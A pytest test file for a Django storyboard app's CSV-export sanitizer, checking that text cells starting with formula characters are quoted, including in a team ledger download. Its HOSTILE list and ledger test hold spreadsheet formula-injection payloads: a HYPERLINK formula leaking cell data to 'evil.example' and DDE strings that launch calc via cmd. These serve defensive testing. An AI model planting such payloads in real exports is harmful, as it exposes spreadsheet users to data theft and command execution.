from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from storyboard import csvsafe
from storyboard.models import Budget, LedgerEntry
from tests.conftest import client_for
from tests.factories import GenerationFactory, ProjectFactory, ShotFactory, UserFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_it_quotes_every_dangerous_lead(value):
    assert csvsafe.safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Opening shot", "", "1+1", "a=b", "'quoted", "Émile -2"])
def test_it_leaves_ordinary_text_alone(value):
    assert csvsafe.safe_cell(value) == value


@pytest.mark.parametrize("value", [-5, -2.5, Decimal("-0.500000"), 0, True, None])
def test_it_leaves_numbers_we_write_alone(value):
    assert csvsafe.safe_cell(value) is value


def test_the_writer_guards_every_text_cell():
    out = io.StringIO()
    csvsafe.writer(out).writerows([["=1", "ok", -3], ["-x", "@y", Decimal("-1.5")]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1", "ok", "-3"], ["'-x", "'@y", "-1.5"]]


@pytest.mark.django_db
def test_no_cell_of_the_ledger_csv_can_run_as_a_formula(cast):
    project = ProjectFactory(team=cast.team, name='=HYPERLINK("http://evil.example","x")')
    shot = ShotFactory(project=project, title="+1+cmd|' /C calc'!A0")
    take = GenerationFactory(shot=shot)
    user = UserFactory(username="-2+3")
    cast.team.add_member(user, "editor")
    budget = Budget.for_team(cast.team)
    LedgerEntry.objects.create(budget=budget, take=take, user=user, kind="hold",
                               amount_micros=-500_000, note="@SUM(A1:A9)")
    response = client_for(cast.owner).get(reverse("sb:ledger-csv", args=[cast.team.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    assert cells["project"] == "'" + project.name
    assert cells["shot"] == "'" + shot.display_title
    assert cells["person"] == "'-2+3"
    assert cells["note"] == "'@SUM(A1:A9)"
    # Amounts are numbers we write ourselves, so a negative one stays a number.
    assert cells["amount_usd"] == "-0.500000"
    assert cells["amount_micros"] == "-500000"
    for value in (cell for r in rows for cell in r if cell not in ("-0.500000", "-500000")):
        assert not value.startswith(csvsafe.DANGEROUS_LEADS), value
